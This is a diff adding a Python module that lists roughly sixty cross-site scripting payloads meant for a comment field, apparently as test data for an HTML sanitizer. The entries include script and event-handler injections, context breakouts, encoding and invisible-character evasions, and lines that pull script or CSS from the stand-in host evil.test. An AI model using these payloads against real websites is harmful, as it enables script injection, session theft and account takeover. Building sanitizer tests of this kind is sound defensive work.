@@ -1,0 +1,77 @@
+"""What somebody writes under a post who means harm: sixty ways to run a script in the page that shows it."""
+
+from __future__ import annotations
+
+TAGS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x0b>alert(1)</script>",
+    "<script/src=data:,alert(1)></script>",
+    "<script>alert`1`</script >",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror=alert(1)>",
+    "<img src=x:x onerror\n=\nalert(1)>",
+    "<image src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert(1)</svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<math><mtext><style><img src onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>@import '//evil.test/x.css';</style>",
+    "<base href=//evil.test/>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<form action=//evil.test><button>x",
+    "<input autofocus onfocus=alert(1)>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<dialog open onclose=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<select onfocus=alert(1) autofocus>",
+    "<isindex action=javascript:alert(1)>",
+)
+"""New elements."""
+BREAKS = (
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' x='",
+    "`onload=alert(1)",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "javascript:alert(1)",
+)
+"""Out of the place that the text stands in."""
+ODD = (
+    "\u202e>tpircs/<)1(trela>tpircs<",
+    "<\u200bscript>alert(1)</script>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<scr\x00ipt>alert(1)</script>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "{{constructor.constructor('alert(1)')()}}",
+)
+"""Characters that turn the writing round, cannot be seen, or become something else later."""
+PAYLOADS = TAGS + BREAKS + ODD
